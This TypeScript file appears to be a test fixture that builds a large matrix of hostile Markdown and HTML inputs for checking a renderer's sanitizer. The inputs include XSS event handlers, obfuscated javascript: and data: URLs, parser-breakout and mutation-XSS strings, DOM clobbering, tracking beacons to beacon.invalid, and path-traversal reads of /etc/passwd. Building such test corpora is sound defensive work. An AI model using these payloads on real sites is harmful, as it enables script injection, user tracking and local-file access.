/** Markdown that tries to run `top.__ran=1` or to ask `https://beacon.invalid/` for something. */
export interface HostilePayload {
  /** Class and vector, unique. */
  readonly name: string;
  readonly markdown: string;
}

/** Every class of hostile input crossed with the places it can stand in, as essays of one payload each. */
export function hostilePayloads(): HostilePayload[] {
  return [
    ...handlers(),
    ...schemes(),
    ...breakouts(),
    ...listed('element', elements),
    ...listed('mutation', mutations),
    ...listed('clobbering', clobbering),
    ...listed('beacon', beacons),
    ...listed('own scheme', ownScheme),
    ...listed('advisory', advisories),
  ];
}

const run = 'top.__ran=1';
const beacon = 'https://beacon.invalid/';

function listed(kind: string, payloads: readonly string[]): HostilePayload[] {
  return payloads.map((markdown, at) => ({ name: `${kind} ${at + 1}`, markdown }));
}

function crossed(
  kind: string,
  rows: Readonly<Record<string, string>>,
  columns: Readonly<Record<string, (row: string) => string>>,
): HostilePayload[] {
  return Object.entries(rows).flatMap(([row, value]) =>
    Object.entries(columns).map(([column, put]) => ({
      name: `${kind}: ${row} in ${column}`,
      markdown: put(value),
    })),
  );
}

/** Handler attributes on elements that are kept, dropped and unknown, in every way of writing an attribute. */
function handlers(): HostilePayload[] {
  const elements = {
    img: '<img src=x HANDLER>',
    'img with data': '<img src="data:image/png;base64,AAAA" HANDLER>',
    p: '<p tabindex=0 autofocus HANDLER>text</p>',
    a: '<a href="#x" autofocus HANDLER>text</a>',
    details: '<details open HANDLER><summary>s</summary>text</details>',
    body: '<body HANDLER>',
    svg: '<svg HANDLER></svg>',
    video: '<video HANDLER><source HANDLER></video>',
    audio: '<audio src=x HANDLER></audio>',
    input: '<input type=checkbox autofocus HANDLER>',
    marquee: '<marquee HANDLER>text</marquee>',
    table: '<table HANDLER><tr HANDLER><td HANDLER>cell</td></tr></table>',
    unknown: '<x-thing tabindex=0 autofocus HANDLER>text</x-thing>',
  };
  const spellings = {
    onerror: `onerror=${run}`,
    'onload in quotes': `onload="${run}"`,
    'onfocus in capitals': `ONFOCUS='${run}'`,
    'ontoggle after a slash': `/ontoggle=${run}`,
    'onanimationstart with entities':
      'onanimationstart="&#116;op.__ran&equals;1" style="animation:x"',
    'onpointerrawupdate after a line break': `\nonpointerrawupdate\n=\n"${run}"`,
  };
  return Object.entries(elements).flatMap(([element, html]) =>
    Object.entries(spellings).map(([spelling, handler]) => ({
      name: `handler: ${spelling} on ${element}`,
      markdown: html.replaceAll('HANDLER', handler),
    })),
  );
}

function schemes(): HostilePayload[] {
  const addresses = {
    javascript: `javascript:${run}`,
    'mixed case': `JaVaScRiPt:${run}`,
    'space before': ` javascript:${run}`,
    'control before': `\u0001javascript:${run}`,
    'TAB inside': `java\tscript:${run}`,
    'TAB entity inside': `java&Tab;script:${run}`,
    'line break entity inside': `java&NewLine;script:${run}`,
    'numeric entities': `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
    'padded hex entities without semicolons': `&#x0006A&#x00061vascript:${run}`,
    'colon entity': `javascript&colon;${run}`,
    'percent-encoded colon': `javascript%3A${run}`,
    'percent-encoded line break': `java%0d%0ascript:${run}`,
    'comment of an address': `javascript://beacon.invalid/%0a${run}`,
    vbscript: `vbscript:${run}`,
    'data HTML': `data:text/html,<script>${run}</script>`,
    'data HTML in base64': `data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==`,
    'data SVG': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    'data PNG that is HTML': `data:image/png,<script>${run}</script>`,
    file: 'file:///etc/passwd',
    UNC: '\\\\beacon.invalid\\share',
    'protocol-relative': '//beacon.invalid/x',
    'slash and backslash': '/\\beacon.invalid/x',
    'unknown scheme': 'ms-msdt:/id',
    'view-source': 'view-source:file:///etc/passwd',
    blob: 'blob:https://beacon.invalid/x',
    'zero width inside': `java\u200bscript:${run}`,
  };
  return crossed('scheme', addresses, {
    'a Markdown link': (address) => `[text](<${address.replace(/[<>]/g, encodeURIComponent)}>)`,
    'a Markdown image': (address) => `![text](<${address.replace(/[<>]/g, encodeURIComponent)}>)`,
    'an autolink': (address) => `<${address}>`,
    'a definition': (address) =>
      `[text]\n\n[text]: <${address.replace(/[<>]/g, encodeURIComponent)}> "t"`,
    'an href': (address) => `<a href="${address}">text</a>`,
    'a source': (address) => `<img src="${address}">`,
    'a frame': (address) => `<iframe src="${address}"></iframe><embed src="${address}">`,
    'an SVG link': (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  });
}

function breakouts(): HostilePayload[] {
  const texts = {
    script: `<script>${run}</script>`,
    image: `<img src=x onerror=${run}>`,
    'double quote': `"><img src=x onerror=${run}>`,
    'single quote': `'><img src=x onerror=${run}>`,
    'quote and handler': `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
    entity: `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
    'end of code': `</code></pre><img src=x onerror=${run}>`,
    'end of a comment': `--><img src=x onerror=${run}>`,
    'end of a title': `</title></textarea></style></noscript><img src=x onerror=${run}>`,
    backtick: `\`<img src=x onerror=${run}>`,
    style: `<style/onload=${run}>`,
  };
  return crossed('breakout', texts, {
    'a fence info string': (text) => `~~~${text.replace(/\n/g, ' ')}\ncode\n~~~`,
    'a fence title': (text) => `~~~ts title="${text}" {1-3}\ncode\n~~~`,
    'code of a known language': (text) => `~~~html\n${text}\n~~~`,
    'a code span': (text) => `\`\` ${text} \`\``,
    'an alternative text': (text) => `![${text}](x.png)`,
    'an image title': (text) => `![alt](x.png '${text.replaceAll("'", "\\'")}')`,
    'a link title': (text) => `[text](#x "${text.replaceAll('"', '\\"')}")`,
    'a definition title': (text) => `[text]\n\n[text]: #x (${text.replace(/[()]/g, '')})`,
    'a heading': (text) => `# ${text}`,
    'a table cell': (text) => `| a | b |\n|--|--|\n| ${text} | x |`,
    'a task': (text) => `- [x] ${text}`,
    'an alert': (text) => `> [!NOTE]\n> ${text}`,
    'a footnote': (text) => `x[^1] y[^${text.replace(/[\s\]]/g, '')}]\n\n[^1]: ${text}`,
    'a comment': (text) => `<!-- ${text} -->`,
    'an attribute': (text) => `<p title="${text}" id='${text}' class="${text}">x</p>`,
  });
}

const elements = [
  `<script>${run}</script>`,
  `<script src="${beacon}s.js"></script>`,
  `<SCRIPT\n>${run}</SCRIPT\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}" onload=${run}></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html,<script>${run}</script>"><param name=src value=x></object>`,
  `<embed src="data:text/html,<script>${run}</script>" type=text/html>`,
  `<applet code="x" archive="${beacon}x.jar"></applet>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${beacon}">`,
  `<base href="${beacon}"><a href="x">text</a>`,
  `<base href="javascript:/"><a href="/./${run}">text</a>`,
  `<link rel=stylesheet href="${beacon}x.css">`,
  `<link rel=import href="${beacon}x.html">`,
  `<link rel=preload as=script href="${beacon}x.js">`,
  `<style>@import "${beacon}x.css"; body{background:url(${beacon})}</style>`,
  `<style>p{animation:x}@keyframes x{}</style><p onanimationend=${run}>x</p>`,
  `<form action="javascript:${run}"><button>x</button><input type=submit></form>`,
  `<form id=f action="${beacon}"></form><button form=f formaction="javascript:${run}">x</button>`,
  `<input type=image src="${beacon}i" onerror=${run}>`,
  `<input type=text onfocus=${run} autofocus>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}>x</textarea>`,
  `<keygen autofocus onfocus=${run}>`,
  `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<title><img src=x onerror=${run}></title>`,
  `<dialog open onbeforetoggle=${run}>x</dialog>`,
  `<p popover id=x onbeforetoggle=${run}>x</p><button popovertarget=x>x</button>`,
  `<portal src="javascript:${run}"></portal>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<img src=x:x onerror=${run}`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<xml><i><b>x<img src=x onerror=${run}></b></i></xml>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<!DOCTYPE html SYSTEM "${beacon}">\n`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<a href="#" ping="${beacon}">text</a>`,
  `<a href="#" target=_blank onclick=${run} download>text</a>`,
];

const mutations = [
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${run}></set></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=${run}></style></mglyph></mi></math></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>`,
  `<svg><image href="${beacon}i" onerror=${run} /></svg>`,
  `<svg><desc><noscript><img src=x onerror=${run}></noscript></desc></svg>`,
  `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  `<svg><p><style><g title="</style><img src=x onerror=${run}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><mtext></p><mglyph><svg><mtext><style><a title="</style><img src onerror=${run}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<math><mi><table><mglyph><nolink><style></table><img src=x onerror=${run}></style></mi></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mrow href="java\tscript:${run}"><mi>x</mi></mrow></math>`,
  `<table><td><svg><desc><td></desc></svg><style><img src=x onerror=${run}></style>`,
  `<table><caption><form><table></form><img src=x onerror=${run}></table></caption></table>`,
  `<select><math><mtext><option><img src=x onerror=${run}></select>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<p><svg><a title="</svg><img src=x onerror=${run}>"></a></svg>`,
  `<div><noscript><style></noscript><img src=x onerror=${run}></style></div>`,
  `<b><p><table><b><a href=x></b><img src=x onerror=${run}>`,
  `<a><table><a href="javascript:${run}">x</a></table></a>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<pre>\n\n<img src=x onerror=${run}></pre>`,
  `<p id="&lt;img src=x onerror=${run}&gt;">x</p>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<style><style /><img src=x onerror=${run}></style>`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${run}&gt;</style></svg>`,
  `<h1><svg></h1><xmp><img title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<</p/><img src=x onerror=${run}>`,
  `<img src="x\`\`onerror=${run}\`">`,
  `<p/\u0000onclick=${run}>x</p>`,
  `<\u0000script>${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<ſcript>${run}</ſcript>`,
  `<image src=x onerror=${run}>`,
];

const clobbering = [
  '<a id=document></a><a id=document name=body>x</a>',
  '<img name=body><img name=head><img name=cookie>',
  '<form id=attributes><input name=attributes><input name=parentNode></form>',
  '<form name=getElementById><img id=querySelector></form>',
  '<a id=studio></a><a id=studio name=ask href="https://beacon.invalid/">x</a>',
  '<iframe name=top></iframe><iframe name=parent srcdoc=""></iframe>',
  '<object name=defaultView></object><embed name=location>',
  '<p id=__proto__>x</p><p id=constructor>y</p>',
  '<p id="x y" class="status-bar dialog">x</p>',
  '<p id="fn1">stolen</p>\n\nx[^1]\n\n[^1]: note',
  '<input type=checkbox name=children id=children>',
  '# __proto__\n\n# constructor\n\n# toString\n\n[__proto__]\n\n[constructor]: #x',
  '<html id=x class=dark onload=top.__ran=1><head id=y>',
  '<slot name=x></slot><p slot=x>y</p>',
];

const beacons = [
  `![x](${beacon}1.png)`,
  `![x][r]\n\n[r]: ${beacon}2.png`,
  `<img src="${beacon}3.png">`,
  `<img srcset="${beacon}4.png 1x, ${beacon}5.png 2x" src="data:image/png;base64,AAAA">`,
  `<picture><source srcset="${beacon}6.png"><img src="${beacon}7.png"></picture>`,
  `<video poster="${beacon}8.png" src="${beacon}9.mp4" autoplay></video>`,
  `<audio src="${beacon}10.mp3" autoplay></audio>`,
  `<video><track src="${beacon}11.vtt" default><source src="${beacon}12.mp4"></video>`,
  `<body background="${beacon}13.png">`,
  `<table background="${beacon}14.png"><td background="${beacon}15.png">x</td></table>`,
  `<p style="background-image:url(${beacon}16.png)">x</p>`,
  `<td style="text-align:left;background:url(${beacon}17.png)">x</td>`,
  `<ul style="list-style-image:url(${beacon}18.png)"><li>x</li></ul>`,
  `<input type=image src="${beacon}19.png">`,
  `<object data="${beacon}20"></object>`,
  `<embed src="${beacon}21">`,
  `<iframe src="${beacon}22"></iframe>`,
  `<link rel=prefetch href="${beacon}23"><link rel=dns-prefetch href="${beacon}">`,
  `<link rel=icon href="${beacon}24.ico">`,
  `<blockquote cite="${beacon}25">x</blockquote>`,
  `<img src="//beacon.invalid/26.png">`,
  `<img src="\\\\beacon.invalid\\27.png">`,
  `<img lowsrc="${beacon}28.png" dynsrc="${beacon}29.png" longdesc="${beacon}30">`,
  `<svg><image xlink:href="${beacon}31.png"/><use href="${beacon}32.svg#x"/></svg>`,
  `<svg><style>@font-face{font-family:x;src:url(${beacon}33)}</style><text font-family=x>x</text></svg>`,
  `<font face="x" style="src:url(${beacon}34)">x</font>`,
  `<bgsound src="${beacon}35.wav">`,
  `<html manifest="${beacon}36"><head profile="${beacon}37">`,
  `<p style="behavior:url(${beacon}38)">x</p>`,
  `<a href="#x" attributionsrc="${beacon}39">x</a><img attributionsrc="${beacon}40">`,
  `<img src="  https://beacon.invalid/41.png  ">`,
  `<img src="ht&Tab;tps://beacon.invalid/42.png">`,
  `[![x](${beacon}43.png)](https://example.invalid/)`,
  `![x](${beacon}44.png "a figure")`,
];

const ownScheme = [
  '![x](longhand://studio/../../etc/passwd)',
  '[x](longhand://studio/index.html)',
  '<img src="longhand://studio/%2e%2e/%2e%2e/etc/passwd">',
  '<iframe src="longhand://studio/index.html"></iframe>',
  '<script src="longhand://studio/assets/index.js"></script>',
  '<link rel=stylesheet href="longhand://studio/../secret.css">',
  '<a href="longhand://studio/?open=%2fetc%2fpasswd">x</a>',
  '<object data="longhand://studio/index.html"></object>',
  '<img src="../../../etc/passwd">',
  '<embed src="app://local/C:/Windows/win.ini">',
];

/** One for each way in of the advisories against other writing programs, as far as an essay's text can carry it. */
const advisories = [
  `<section data-background-iframe="javascript:${run}" data-src="javascript:${run}">x</section>`,
  `$\\href{java\tscript:${run}}{x}$`,
  `$$\n\\unicode{<img src=x onerror=${run}>}\n$$`,
  `$$</script><img src=x onerror=${run}>$$`,
  `<embed src="updater.html?x=<img src=x onerror=${run}>">`,
  `<iframe srcdoc='<img src=x onerror=parent.${run}>'></iframe>`,
  `~~~mermaid\ngraph TD; A["<img src=x onerror=${run}>"] --> B; click A "javascript:${run}"\n~~~`,
  `~~~mermaid\n%%{init: {"themeCSS": "</style><img src=x onerror=${run}>"}}%%\nx\n~~~`,
  `~~~<style/onload=${run}>\nx\n~~~`,
  `\`\`\`js"><img/src=x/onerror=${run}>\nx\n\`\`\``,
  `<a><img title="<table><img src=x onerror=${run}>" alt='" onerror=${run} x="'></a>`,
  `![x" onerror="${run}](x.png)`,
  `![x](x.png" onerror="${run})`,
  `<link rel=stylesheet href=data:text/css,*{background:url(${beacon})}>`,
  `<button formaction=javascript:${run}>x</button><form><button>x</button></form>`,
  `<img src=x onerror=${run}><svg onload=${run}>`,
  `[x](command:workbench.action.terminal.new)`,
  `[x](file://///beacon.invalid/share/x.exe)`,
  `[x](ms-appinstaller://?source=${beacon}x.appx)`,
  `[x](\\\\beacon.invalid\\share\\x.lnk)`,
  `[x](search-ms:query=x&crumb=location:\\\\beacon.invalid)`,
  `[x]: javascript:${run}\n\n[x] [x][] [y][x]`,
  `<https://a.invalid/"onmouseover="${run}>`,
  `https://a.invalid/"onmouseover="${run} www.a.invalid/<img/src=x/onerror=${run}>`,
  `<javascript:${run}@beacon.invalid>`,
  `mailto:x@a.invalid"onclick="${run}`,
];
